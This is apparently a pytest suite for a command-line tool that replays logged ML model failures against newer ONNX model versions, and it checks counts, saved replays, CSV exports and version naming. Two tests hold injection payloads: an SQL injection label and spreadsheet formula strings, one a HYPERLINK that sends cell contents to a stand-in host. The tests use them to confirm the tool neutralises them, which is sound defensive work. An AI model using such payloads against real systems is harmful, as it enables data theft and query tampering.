"""The replay workflow's second audit, as a data scientist meets it on the command line: how many
failures --limit left out, cases no version answered, failures broken again after a fix, saved
replays told apart (titled, filtered, deleted), an export that joins back to production data,
registered names as --model-version, and the same bytes given twice. Real workspaces recorded by
the real probe, the real CLI, real models."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from datetime import datetime
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper

from app.cli import main
from app.core.domain import Capture, CaptureStatus, TensorBlob
from app.core.replay import Selection, count_failures, replay, select_case_set
from app.core.replay_targets import LocalOnnxTarget
from app.core.store import Store
from app.gui.replay_summary import result_html
from tests.conftest import DEMO


def run_json(capsys, argv: list[str]) -> tuple[int, dict, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, json.loads(captured.out), captured.err


def failures_in(db: Path, where: str = "", args: tuple = ()) -> int:
    """Counted here with SQL of our own, not through the Store under test."""
    with sqlite3.connect(db) as conn:
        return conn.execute("SELECT count(*) FROM captures WHERE status != 'ok'" + where,
                            args).fetchone()[0]


def _mlp(path: Path, width: int, seed: int = 0) -> Path:
    """A softmax classifier taking features as [batch, width]."""
    w = numpy_helper.from_array(np.random.default_rng(seed).normal(size=(width, 3))
                                .astype(np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["features", "W"], ["z"]),
         helper.make_node("Softmax", ["z"], ["probabilities"], axis=1)], "g",
        [helper.make_tensor_value_info("features", TensorProto.FLOAT, ["batch", width])],
        [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, ["batch", 3])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, path)
    return path


# -- #1: --limit says how many it left out ---------------------------------------------------

def test_above_the_limit_the_output_says_how_many_matched_and_kept_the_newest(
        capsys, demo_db: Path, versions):
    every = failures_in(demo_db)
    code, doc, _ = run_json(capsys, ["replay", "--db", str(demo_db), "--versions",
                                     str(versions[1]), "--limit", "40", "--controls", "5",
                                     "--json"])
    assert code == 0 and every > 40
    assert (doc["failures"], doc["failures_matched"], doc["limit"]) == (40, every, 40)
    assert doc["versions"][0]["failures"] == 40
    # Saved with it: shown again, the JSON is the live one.
    _, shown, _ = run_json(capsys, ["replay", "--db", str(demo_db), "--show", "latest",
                                    "--json"])
    assert shown == doc
    assert main(["replay", "--db", str(demo_db), "--show", "latest"]) == 0
    out = capsys.readouterr().out
    assert f"replayed 40 of {every} matching failures (newest first; raise --limit)" in out
    assert "40 failures, 5 controls; first failing version:" in out
    # Under the limit nothing was left out, and it reads as before.
    code, doc, _ = run_json(capsys, ["replay", "--db", str(demo_db), "--versions",
                                     str(versions[1]), "--kind", "non_finite", "--no-save",
                                     "--json"])
    kept = failures_in(demo_db, " AND status = ?", ("non_finite",))
    assert (doc["failures"], doc["failures_matched"]) == (kept, kept)
    with pytest.raises(SystemExit):
        main(["replay", "--help"])
    assert "(default 1000)" in " ".join(capsys.readouterr().out.split())


def test_the_match_count_is_one_parameterised_count_query(demo_db: Path):
    store = Store(demo_db, readonly=True)
    statements: list[str] = []
    try:
        selection = Selection(kinds=("mismatch",), label="1", limit=3)
        store.db.conn.set_trace_callback(statements.append)
        counted = count_failures(store, selection)
        store.db.conn.set_trace_callback(None)
    finally:
        store.close()
    assert counted == failures_in(demo_db, " AND status = ? AND label = ?", ("mismatch", "1"))
    (sql,) = statements  # one statement, reading no blob
    assert sql.startswith("SELECT count(*) FROM captures") and "inputs" not in sql
    # The values travel as parameters: a label that is SQL is only a label matching nothing.
    store = Store(demo_db, readonly=True)
    try:
        assert count_failures(store, Selection(label="1' OR '1'='1")) == 0
    finally:
        store.close()


# -- #4: no answer anywhere is not "fixed everywhere" ------------------------------------------

def test_failures_no_version_answered_are_counted_apart(capsys, demo_db: Path, tmp_path: Path,
                                                       versions):
    narrow = _mlp(tmp_path / "narrow.onnx", 7)  # the captures hold 13 values a row
    argv = ["replay", "--db", str(demo_db), "--no-save", "--limit", "20", "--controls", "5"]
    code, doc, _ = run_json(capsys, [*argv, "--versions", str(narrow), "--json"])
    assert code == 1
    assert doc["unanswered_everywhere"] == 20 and doc["failing_on_no_version"] == 0
    assert doc["first_failing"] == {}
    assert main([*argv, "--versions", str(narrow)]) == 1
    out = capsys.readouterr().out
    assert "first failing version: no version answered 20" in out
    assert ", none" not in out and ": none" not in out
    # Answered by another version: judged there, so none is left unanswered everywhere.
    export = tmp_path / "cases.csv"
    code, doc, _ = run_json(capsys, [*argv, "--versions", str(narrow), str(versions[1]),
                                     "--export", str(export), "--json"])
    assert doc["unanswered_everywhere"] == 0
    assert doc["failing_on_no_version"] + sum(doc["first_failing"].values()) == 20
    with export.open(newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["role"] == "failure"]
    assert sum(r["first_failing"] == "" for r in rows) == doc["failing_on_no_version"]
    assert all(r["narrow:verdict"] == "no_answer" for r in rows)


# -- #5: broken again after a fix, in the CLI, the JSON and the window's summary ---------------

def test_failures_fixed_by_one_version_and_broken_by_a_later_one_are_reported(
        capsys, demo_db: Path, versions, tmp_path: Path):
    export = tmp_path / "cases.csv"
    code, doc, _ = run_json(capsys, ["replay", "--db", str(demo_db), "--versions",
                                     *map(str, versions), "--export", str(export), "--json"])
    assert code == 0
    with export.open(newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["role"] == "failure"]
    names = ["wine-v1", "wine-v2", "wine-v3"]
    # Counted from the verdicts per case: fixed on some earlier version, failing here.
    expected = [sum(r[f"{v}:verdict"] == "still_failing"
                    and any(r[f"{e}:verdict"] == "fixed" for e in names[:k]) for r in rows)
                for k, v in enumerate(names)]
    got = [v["broken_again"] for v in doc["versions"]]
    assert got == expected and got[0] == 0 and got[2] > 0
    assert sum(doc["versions"][2]["broken_again_after"].values()) == got[2]
    assert main(["replay", "--db", str(demo_db), "--show", "latest"]) == 0
    out = capsys.readouterr().out
    assert "broken again" in out.splitlines()[0]
    assert f"wine-v3 broken again: {got[2]} failures an earlier version fixed fail here" in out


def test_the_windows_summary_is_a_row_per_version_with_the_bisect_and_labels(
        demo_db: Path, versions, tmp_path: Path):
    """Six versions: the summary stays a table of six rows, not six paragraphs, and carries
    what the CLI prints (bisect, newly broken by label, broken again)."""
    copies = [shutil.copy(versions[k], tmp_path / f"{name}.onnx")
              for k, name in ((1, "wine-v2-again"), (2, "wine-v3-retrained-with-more-data"),
                              (0, "wine-v1-copy"))]
    store = Store(demo_db)
    try:
        selection = Selection(controls=100)
        result = replay(select_case_set(store, selection),
                        [LocalOnnxTarget(p) for p in (*versions, *copies)],
                        selection=selection)
    finally:
        store.close()
    text = result_html(result)
    assert text.count("<tr>") == 6 and text.count("</table>") == 1
    plain = text.replace("&nbsp;", " ")
    assert "first failing version: wine-v1 " in plain
    v3 = next(s for s in result.summaries() if s.version == "wine-v3")
    assert v3.newly_broken_by_label and v3.broken_again
    assert "broken by label " + ", ".join(
        f"{label}: {n}" for label, n in v3.newly_broken_by_label.items()) in plain
    assert f"broken again {v3.broken_again}" in plain
    # Below the table: the bisect and the broken-again line, not a paragraph per version.
    assert text.split("</table>")[1].count("<br>") <= 2


# -- #8: saved replays told apart, titled and deleted ------------------------------------------

def test_saved_replays_say_their_filters_and_counts_take_a_title_and_can_be_deleted(
        capsys, demo_db: Path, versions):
    db = ["replay", "--db", str(demo_db)]
    _, first, _ = run_json(capsys, [*db, "--versions", str(versions[1]), "--limit", "10",
                                    "--controls", "4", "--json"])
    _, second, _ = run_json(capsys, [*db, "--versions", str(versions[1]), str(versions[2]),
                                     "--endpoint", "wine-v1", "--kind", "mismatch",
                                     "--label", "2", "--controls", "3", "--title",
                                     "label 2 on v3", "--json"])
    assert second["title"] == "label 2 on v3"
    assert second["selection"]["kinds"] == ["mismatch"] and second["selection"]["label"] == "2"
    labelled = failures_in(demo_db, " AND status = ? AND label = ?", ("mismatch", "2"))
    _, listed, _ = run_json(capsys, [*db, "--list", "--json"])
    newest, older = listed["replays"]
    assert newest["title"] == "label 2 on v3" and "wine-v1" in newest["endpoint"]
    assert newest["selection"]["label"] == "2"
    assert (newest["failures"], newest["controls"]) == (labelled, 3)
    assert (older["failures"], older["controls"], older["failures_matched"]) == (
        10, 4, failures_in(demo_db))
    assert main([*db, "--list"]) == 0
    head, line_new, line_old = capsys.readouterr().out.splitlines()
    assert "selected" in head and "failures" in head
    assert "wine-v1, mismatch, label 2" in line_new and '"label 2 on v3"' in line_new
    assert f"10 of {failures_in(demo_db)}" in line_old and "every endpoint" in line_old
    assert main([*db, "--show", str(second["replay_id"])]) == 0
    out = capsys.readouterr().out
    assert "selected: wine-v1, mismatch, label 2" in out
    assert out.rstrip().endswith(f'replay {second["replay_id"]} "label 2 on v3"')
    # Deleted with its rows, in one go; the other stays whole.
    assert main([*db, "--delete", str(first["replay_id"])]) == 0
    assert f"deleted replay {first['replay_id']}" in capsys.readouterr().out
    with sqlite3.connect(demo_db) as conn:
        for table, column in (("replays", "id"), ("replay_cases", "replay_id"),
                              ("replay_results", "replay_id")):
            gone, kept = (conn.execute(f"SELECT count(*) FROM {table} WHERE {column} = ?",
                                       [r["replay_id"]]).fetchone()[0]
                          for r in (first, second))
            assert gone == 0 and kept > 0, table
    assert main([*db, "--delete", str(first["replay_id"])]) == 2
    assert "no saved replay" in capsys.readouterr().err
    assert main([*db, "--versions", str(versions[1]), "--no-save", "--title", "x"]) == 2
    assert "--no-save saves none" in capsys.readouterr().err


# -- #11: an export that joins back to production data -----------------------------------------

def test_the_export_carries_endpoint_time_request_id_the_recorded_answer_and_inputs(
        capsys, demo_db: Path, versions, tmp_path: Path):
    store = Store(demo_db)
    try:
        (endpoint,) = store.endpoints_with_captures()
        names = [f"f{k}" for k in range(13)]
        store.set_endpoint_info(endpoint, input_names=names)  # as the Monitor records them
    finally:
        store.close()
    out = tmp_path / "cases.csv"
    assert main(["replay", "--db", str(demo_db), "--versions", str(versions[1]), "--limit",
                 "15", "--controls", "5", "--export", str(out), "--export-inputs"]) == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    store = Store(demo_db, readonly=True)
    try:
        for row in rows:
            c = store.capture(int(row["capture_id"])).capture
            assert row["endpoint"] == c.endpoint and row["request_id"] == c.request_id
            when = datetime.fromisoformat(row["ts"].replace("Z", "+00:00"))
            assert row["ts"].endswith("Z") and abs(when.timestamp() * 1e9 - c.ts_ns) < 1e3
            assert row["recorded_prediction"] == (c.prediction or "")
            if c.confidence is None:
                assert row["recorded_confidence"] == ""
            else:
                assert float(row["recorded_confidence"]) == pytest.approx(c.confidence,
                                                                          abs=1e-6)
            values = c.inputs[0].to_array().reshape(-1)
            cells = np.array([float(row[f"input:{n}"]) for n in names], dtype=np.float32)
            assert np.array_equal(cells, values, equal_nan=True)
    finally:
        store.close()


def test_image_sized_inputs_are_left_out_of_the_export_and_said_so(capsys, tmp_path: Path):
    db = tmp_path / "images.db"
    w = numpy_helper.from_array(np.random.default_rng(1).normal(size=(784, 3))
                                .astype(np.float32), "W")
    shape = numpy_helper.from_array(np.array([-1, 784], np.int64), "s")
    graph = helper.make_graph(
        [helper.make_node("Reshape", ["image", "s"], ["flat"]),
         helper.make_node("MatMul", ["flat", "W"], ["z"]),
         helper.make_node("Softmax", ["z"], ["probs"], axis=1)], "img",
        [helper.make_tensor_value_info("image", TensorProto.FLOAT, ["batch", 1, 28, 28])],
        [helper.make_tensor_value_info("probs", TensorProto.FLOAT, ["batch", 3])], [w, shape])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    onnx.save(model, tmp_path / "img.onnx")
    rng = np.random.default_rng(2)
    captures = [Capture(f"onnx:{tmp_path / 'img.onnx'}", 10**18 + k * 10**6, 1.0,
                        CaptureStatus.MISMATCH if k < 4 else CaptureStatus.OK,
                        inputs=(TensorBlob.from_array(
                            "image", rng.random((1, 1, 28, 28), dtype=np.float32)),),
                        request_id=f"r{k}", label="0", prediction="1", confidence=0.9)
                for k in range(6)]
    store = Store(db)
    try:
        store.write_batch([], captures)
    finally:
        store.close()
    out = tmp_path / "cases.csv"
    assert main(["replay", "--db", str(db), "--versions", str(tmp_path / "img.onnx"),
                 "--export", str(out), "--export-inputs", "--no-save"]) == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 6 and not any(k.startswith("input:") for k in rows[0])
    assert all("image float32[1,1,28,28] is 784 values" in r["inputs_left_out"] for r in rows)
    assert {r["request_id"] for r in rows} == {f"r{k}" for k in range(6)}


# -- #12: --model-version by registered name; a filter matching nothing says what there is -----

def test_model_version_takes_a_registered_name_and_empty_filters_say_what_exists(
        capsys, demo_db: Path, versions):
    assert main(["versions", "add", "--db", str(demo_db), *map(str, versions)]) == 0
    capsys.readouterr()
    argv = ["replay", "--db", str(demo_db), "--versions", "wine-v2", "--no-save",
            "--controls", "0", "--json"]
    _, by_string, _ = run_json(capsys, [*argv, "--model-version", "1.0.0"])
    code, by_name, err = run_json(capsys, [*argv, "--model-version", "wine-v1"])

    def verdicts(doc: dict) -> list[tuple]:
        return [(v["cases"], v["fixed"], v["still_failing"]) for v in doc["versions"]]

    assert code == 0 and by_name["failures"] == by_string["failures"] > 0
    assert verdicts(by_name) == verdicts(by_string)
    assert "--model-version wine-v1 is registered version wine-v1" in err
    assert "model version 1.0.0" in err
    store = Store(demo_db, readonly=True)
    try:
        sha = next(v["sha256"] for v in store.versions() if v["name"] == "wine-v1")
    finally:
        store.close()
    _, by_sha, _ = run_json(capsys, [*argv, "--model-version", sha[:10]])
    assert verdicts(by_sha) == verdicts(by_string)
    for flag, value, lists in (("--kind", "slow", "kinds there: mismatch ("),
                               ("--label", "7", "labels there: 1 ("),
                               ("--model-version", "wine-v9", "model versions there: 1.0.0 (")):
        assert main(["replay", "--db", str(demo_db), flag, value, "--no-save"]) == 2
        err = capsys.readouterr().err
        assert f"{flag} {value} matches no failure" in err and lists in err
        assert err.count("\n") == 1
    assert main(["replay", "--db", str(demo_db), "--kind", "non_finite", "--label", "2",
                 "--until", "1", "--no-save"]) == 2
    assert "no failure lies in the time asked for; they span" in capsys.readouterr().err


# -- #14: a missing file named as such; the same bytes under two names -------------------------

def test_a_missing_model_file_is_said_so_and_the_same_bytes_twice_get_a_note(
        capsys, demo_db: Path, versions, tmp_path: Path):
    missing = tmp_path / "nope.onnx"
    assert main(["replay", "--db", str(demo_db), "--versions", str(versions[0]),
                 str(missing)]) == 2
    assert f"model file {missing} does not exist" in capsys.readouterr().err
    twin = shutil.copy(versions[0], tmp_path / "twin.onnx")
    code, doc, err = run_json(capsys, ["replay", "--db", str(demo_db), "--versions",
                                       str(versions[0]), str(twin), str(versions[1]),
                                       "--limit", "5", "--no-save", "--json"])
    assert code == 0 and [v["version"] for v in doc["versions"]] == [
        "wine-v1", "twin", "wine-v2"]  # asked for by name: both replayed
    assert err.count("twin is wine-v1 again (the same model") == 1


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(capsys, tmp_path: Path):
    """Labels and request ids come from production logs: "=HYPERLINK(...)" in one ran as a
    formula when the export was opened in a spreadsheet. Numbers, negative ones too, stay."""
    db = tmp_path / "log.db"
    model = DEMO / "wine-v1.onnx"
    evil = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "@SUM(1+1)", "+1", "-2"]
    captures = [Capture(f"onnx:{model}", 10**18 + k * 10**6, 1.0, CaptureStatus.MISMATCH,
                        inputs=(TensorBlob.from_array(
                            "features", np.full((1, 13), -0.5, np.float32)),),
                        request_id=label, label=label, prediction="1", confidence=0.9)
                for k, label in enumerate(evil)]
    store = Store(db)
    try:
        store.write_batch([], captures)
    finally:
        store.close()
    out = tmp_path / "cases.csv"
    assert main(["replay", "--db", str(db), "--versions", str(model), "--export", str(out),
                 "--export-inputs", "--no-save"]) == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    inert = ["'" + evil[0], "'" + evil[1], "+1", "-2"]  # the numbers are only numbers
    assert sorted(r["label"] for r in rows) == sorted(inert)
    assert sorted(r["request_id"] for r in rows) == sorted(inert)
    assert all(float(r["input:features[0]"]) == -0.5 for r in rows)
